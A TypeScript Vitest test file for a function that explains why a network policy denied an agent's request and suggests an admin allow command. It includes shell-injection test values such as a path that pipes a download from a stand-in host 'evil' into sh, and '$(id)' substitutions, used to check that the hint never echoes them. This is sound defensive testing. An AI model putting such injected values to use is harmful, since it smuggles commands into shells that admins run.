import { describe, expect, it } from 'vitest';
import { explainDenial } from './explain-denial.ts';

const noRule = { kind: 'deny', rule: undefined, reason: 'NO_RULE' } as const;
const byRule = { kind: 'deny', rule: 'p/rules/0', reason: 'DENIED_BY_RULE' } as const;
const host = { agent: 'ci-7', host: 'api.example.com', port: 443 };
const hintOf = (path: string, method = 'GET', more: Partial<typeof host> = {}) =>
  explainDenial({ ...host, ...more, request: { method, path } }, noRule).hint ?? '';

describe('explainDenial', () => {
  it('names what was refused, and the command that allows it', () => {
    expect(explainDenial({ ...host, request: { method: 'POST', path: '/v2/x' } }, noRule)).toMatchObject({
      code: 'POLICY_DENIED',
      message: 'Policy does not allow this agent POST /v2/x on api.example.com.',
      hint: "No rule allows this. If it is needed, ask an admin to run: onecli policy allow ci-7 api.example.com --paths '/v2/x' --methods POST",
    });
  });

  it('says what nobody has approved, and names no command that would allow it', () => {
    const asked = { ...host, request: { method: 'POST', path: '/v1/refunds' } };
    const refused = explainDenial(asked, { kind: 'deny', rule: 'p/rules/0', reason: 'APPROVAL_REQUIRED' });
    expect(refused).toEqual({
      kind: 'refused',
      code: 'APPROVAL_REQUIRED',
      message: 'Nobody has approved POST /v1/refunds on api.example.com for this agent.',
    });
  });

  it('knows no method and path at CONNECT', () => {
    expect(explainDenial({ ...host, port: 8443, request: undefined }, noRule)).toMatchObject({
      message: 'Policy does not allow this agent to reach api.example.com:8443.',
      hint: expect.stringMatching(/onecli policy allow ci-7 api\.example\.com:8443$/) as string,
    });
  });

  it('asks for no allow where a rule denies, and does not name the rule', () => {
    const { hint } = explainDenial({ ...host, request: { method: 'GET', path: '/' } }, byRule);
    expect(hint).not.toContain('policy allow');
    expect(hint).not.toContain('p/rules/0');
  });

  it.each([
    "/x';curl evil|sh;'",
    '/$(id)',
    '/`id`',
    '/**',
    '/v1/*',
    '/a,/**',
    '/a%2Fb',
    '/a b',
    '/"',
    '/{x}',
    '/&',
    '/;x',
    '/!x',
  ])('puts nothing of %s into a command that an admin may paste', (path) => {
    expect(hintOf(path)).toMatch(/--paths '<pattern>' --methods GET$/);
  });

  it('puts no odd method there, and quotes an address that a shell would expand', () => {
    expect(hintOf('/', '$(ID)')).not.toContain('$(ID)');
    expect(hintOf('/', 'GET', { host: '[::1]' })).toContain("allow ci-7 '[::1]' ");
  });

  it('bounds what it repeats', () => {
    const { message } = explainDenial({ ...host, request: { method: 'GET', path: `/${'x'.repeat(9000)}` } }, noRule);
    expect(message.length).toBeLessThan(300);
  });
});
